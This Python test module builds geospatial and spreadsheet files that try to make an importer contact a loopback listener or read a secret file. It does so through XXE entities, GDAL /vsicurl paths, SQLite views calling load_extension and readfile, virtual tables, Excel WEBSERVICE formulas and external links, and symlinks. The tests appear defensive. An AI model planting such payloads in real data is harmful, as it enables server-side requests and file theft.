"""Files of every format that try to connect to a listener or to open another file."""

import json
import shutil
import socket
import sqlite3
import threading
import zipfile
from collections.abc import Iterator, Sequence
from contextlib import closing, contextmanager, suppress
from pathlib import Path

import openpyxl

from tests.etl.delivery import houses, made, write

MARK = "TOP-SECRET"
SUFFIXES = ("gpkg", "geojson", "json", "kml", "dxf", "shp", "csv", "xlsx", "parquet", "pbf")


class Listener:
    """A server on the loopback interface that records every connection."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self.heard: list[bytes] = []
        self._thread = threading.Thread(target=self._listen)
        self._thread.start()

    def _listen(self) -> None:
        while True:
            try:
                caller, _ = self._socket.accept()
            except OSError:
                return
            with caller, suppress(OSError):
                caller.settimeout(5)
                self.heard.append(caller.recv(1000))

    def close(self) -> None:
        with suppress(OSError):
            self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join(10)


@contextmanager
def listening() -> Iterator[Listener]:
    listener = Listener()
    try:
        yield listener
    finally:
        listener.close()


def secret_file(folder: Path) -> Path:
    return made(folder / "secret.csv", f"code,lon,lat\n{MARK},112.1,32.0\n".encode())


def attack_files(
    folder: Path, address: str, secret: Path, suffixes: Sequence[str] = SUFFIXES
) -> list[Path]:
    """Write every attack into a folder, pointers under each suffix; return the files to import."""
    files = []
    for name, content in pointers(address, secret).items():
        files += [made(folder / f"{name}.{suffix}", content) for suffix in suffixes]
    files += [
        kml_with_links(folder / "links.kml", address),
        geojson_with_links(folder / "links.geojson", address),
        *geopackages_with_views(folder, address, secret),
        geopackage_with_tables(folder / "tables.gpkg", address, secret),
        drawing_with_references(folder / "xref.dxf", address, secret),
        workbook_with_links(folder / "links.xlsx", address),
        shapefile_with_addresses(folder / "addresses.shp", address),
        table_with_companions(folder / "companions.csv", address),
        *linked(folder, secret),
        nested(folder / "nested.zip", folder / "tables.gpkg"),
    ]
    return files


def pointers(address: str, secret: Path) -> dict[str, bytes]:
    """Return files of GDAL's that name another file or address, by what they are."""
    vrt = (
        '<OGRVRTDataSource><OGRVRTLayer name="{0}"><SrcDataSource>{1}</SrcDataSource>'
        '<SrcLayer>secret</SrcLayer><GeometryField encoding="PointFromColumns" x="lon" y="lat"/>'
        "</OGRVRTLayer></OGRVRTDataSource>"
    )
    pipeline = {
        "type": "gdal_streamed_alg",
        "command_line": f"gdal vector pipeline ! read {secret}",
    }
    service = {"displayFieldName": "code", "exceededTransferLimit": True, "features": []}
    topology = {"type": "Topology", "objects": {}, "arcs": [], "url": f"{address}/t"}
    gml = (
        '<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="http://a {address}/a.xsd" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<gml:featureMember xlink:href="{address}/member"/></gml:FeatureCollection>'
    )
    entity = (
        f'<?xml version="1.0"?><!DOCTYPE k SYSTEM "{address}/k.dtd" '
        f'[<!ENTITY s SYSTEM "file://{secret}"><!ENTITY h SYSTEM "{address}/e">]>'
        "<kml><Document><Placemark><name>&s;&h;</name></Placemark></Document></kml>"
    )
    return {
        "vrt_file": vrt.format("a", f"CSV:{secret}").encode(),
        "vrt_plain_file": vrt.format("a", secret).encode(),
        "vrt_address": vrt.format("a", f"/vsicurl/{address}/a.csv").encode(),
        "vrt_streamed": vrt.format("a", f"/vsicurl_streaming/{address}/a.csv").encode(),
        "vrt_database": vrt.format("a", f"PG:host=127.0.0.1 port={address[-5:]}").encode(),
        "gdalg": json.dumps(pipeline).encode(),
        "wfs": f"<OGRWFSDataSource><URL>{address}/</URL></OGRWFSDataSource>".encode(),
        "wfs_capabilities": f'<WFS_Capabilities href="{address}/"/>'.encode(),
        "esri_service": json.dumps(service | {"fields": [], "geometryType": "a"}).encode(),
        "topojson": json.dumps(topology).encode(),
        "gml": gml.encode(),
        "xml_entities": entity.encode(),
        "address": f"{address}/a.geojson".encode(),
        "virtual_path": f"/vsicurl/{address}/a.geojson".encode(),
    }


def kml_with_links(path: Path, address: str) -> Path:
    link = f"<href>{address}/k.kml</href>"
    return made(
        path,
        '<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="http://www.opengis.net/kml/2.2 {address}/k.xsd"><Document>'
        '<Schema name="s" id="s"><SimpleField type="string" name="code"/></Schema>'
        f"<NetworkLink><Link>{link}</Link></NetworkLink><GroundOverlay><Icon>{link}</Icon>"
        f"</GroundOverlay><Style><IconStyle><Icon>{link}</Icon></IconStyle></Style>"
        f"<Placemark><name>b1</name><ExtendedData><SchemaData schemaUrl='#s'>"
        '<SimpleData name="code">b1</SimpleData></SchemaData></ExtendedData>'
        f"<styleUrl>{address}/s.kml#a</styleUrl><Point><coordinates>"
        "112.1,32.0</coordinates></Point></Placemark></Document></kml>".encode(),
    )


def geojson_with_links(path: Path, address: str) -> Path:
    write(houses(), path)
    data = json.loads(path.read_text())
    data["crs"] = {"type": "link", "properties": {"href": f"{address}/crs", "type": "esriwkt"}}
    data["links"] = [{"rel": "next", "href": f"{address}/next"}]
    data["features"][0]["geometry"]["$ref"] = f"{address}/ref"
    return made(path, json.dumps(data).encode())


def geopackages_with_views(folder: Path, address: str, secret: Path) -> Iterator[Path]:
    """Write GeoPackages whose views call what GDAL and SQLite offer."""
    query = f"'SERVICE=OSM_NOMINATIM', 'QUERY_TEMPLATE={address}/%s'"
    calls = {
        "geocode": f"ogr_geocode('x', 'geometry', {query})",
        "load_layers": f"ogr_datasource_load_layers('/vsicurl/{address}/a')",
        "extension": f"load_extension('{secret}')",
        "readfile": f"readfile('{secret}')",
        "blob": f"BlobFromFile('{secret}')",
    }
    for name, call in calls.items():
        path = write(houses(), folder / f"view_{name}.gpkg", layer="houses")
        with closing(sqlite3.connect(path)) as file:
            file.execute(f"CREATE VIEW {name} AS SELECT fid, geom, {call} AS code FROM houses")
            _list_layer(file, name)
            file.commit()
        yield path


def geopackage_with_tables(path: Path, address: str, secret: Path) -> Path:
    """Write a GeoPackage with virtual tables over other files and addresses."""
    write(houses(), path, layer="houses")
    virtual = {
        "ogr_address": f"VirtualOGR('/vsicurl/{address}/a.csv')",
        "ogr_file": f"VirtualOGR('{secret}')",
        "text": f"VirtualText('{secret}', 'utf-8', 1)",
    }
    with closing(sqlite3.connect(path)) as file:
        file.execute("PRAGMA writable_schema = ON")
        for name, module in virtual.items():
            values = [name, name, f"CREATE VIRTUAL TABLE {name} USING {module}"]
            file.execute("INSERT INTO sqlite_master VALUES ('table', ?, ?, 0, ?)", values)
            _list_layer(file, name)
        file.commit()
    return path


def _list_layer(file: sqlite3.Connection, name: str) -> None:
    file.execute(
        "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
        "VALUES (?, 'features', ?, 4490)",
        [name, name],
    )
    shape = [name, "geom", "GEOMETRY", 4490, 0, 0]
    file.execute("INSERT INTO gpkg_geometry_columns VALUES (?, ?, ?, ?, ?, ?)", shape)


def drawing_with_references(path: Path, address: str, secret: Path) -> Path:
    blocks = [
        f"0\nBLOCK\n8\n0\n2\nX{i}\n70\n4\n10\n0\n20\n0\n3\nX{i}\n1\n{target}\n0\nENDBLK\n"
        for i, target in enumerate((f"{address}/x.dxf", f"/vsicurl/{address}/x.dxf", secret))
    ]
    inserts = [f"0\nINSERT\n8\n0\n2\nX{i}\n10\n0\n20\n0\n" for i in range(3)]
    write(houses().set_crs("EPSG:4546", allow_override=True)[["geometry"]], path, driver="DXF")
    drawing = path.read_text()
    drawing = drawing.replace("BLOCKS\n", f"BLOCKS\n{''.join(blocks)}", 1)
    drawing = drawing.replace("ENTITIES\n", f"ENTITIES\n{''.join(inserts)}", 1)
    image = f"  0\nIMAGEDEF\n  1\n{address}/i.png\n"
    return made(path, drawing.replace("OBJECTS\n", f"OBJECTS\n{image}", 1).encode())


def workbook_with_links(path: Path, address: str) -> Path:
    book = openpyxl.Workbook()
    book.active.append(["code", "name", "lon", "lat"])
    book.active.append(["b1", f'=WEBSERVICE("{address}/w")', 112.1, 32.0])
    book.active.append(["b2", f"='[{address}/x.xlsx]S'!A1", 112.1, 32.0])
    book.active["A2"].hyperlink = f"{address}/h"
    book.save(path)
    entity = f'<!DOCTYPE a [<!ENTITY e SYSTEM "{address}/e">]>'
    outer = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" TargetMode="External" Type="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships/externalLinkPath" Target="{address}/x.xlsx"/>'
        "</Relationships>"
    )
    changed = path.with_suffix(".new")
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(changed, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            if name == "docProps/app.xml":
                content = entity.encode() + content
            new.writestr(name, content)
        new.writestr("xl/externalLinks/externalLink1.xml", f"{entity}<externalLink/>")
        new.writestr("xl/externalLinks/_rels/externalLink1.xml.rels", outer)
    return changed.replace(path)


def shapefile_with_addresses(path: Path, address: str) -> Path:
    write(houses(), path)
    for suffix in (".prj", ".cpg", ".qpj", ".shp.xml"):
        path.with_name(path.stem + suffix).write_text(f"{address}/crs")
    return path


def table_with_companions(path: Path, address: str) -> Path:
    made(path, b"code,lon,lat\nb1,112.1,32.0\n")
    for suffix in (".csvt", ".prj", ".vrt"):
        path.with_suffix(suffix).write_text(f"{address}/c")
    return path


def linked(folder: Path, secret: Path) -> list[Path]:
    """Write data sets of which a part is a link to a file outside their folder."""
    shape = write(houses(), folder / "linked.shp")
    shape.with_suffix(".dbf").unlink()
    shape.with_suffix(".dbf").symlink_to(secret)
    geodatabase = write(houses(), folder / "linked.gdb", driver="OpenFileGDB")
    part = next(geodatabase.glob("a00000009.gdbtable"))
    part.unlink()
    part.symlink_to(secret)
    plain = folder / "linked_table.csv"
    plain.symlink_to(shutil.copy(secret, folder.parent / "away.csv"))
    return [shape, geodatabase]


def nested(path: Path, inner: Path) -> Path:
    with zipfile.ZipFile(path.with_name("inner.zip"), "w") as archive:
        archive.write(inner, inner.name)
    with zipfile.ZipFile(path, "w") as archive:
        archive.write(path.with_name("inner.zip"), "inner.zip")
    return path
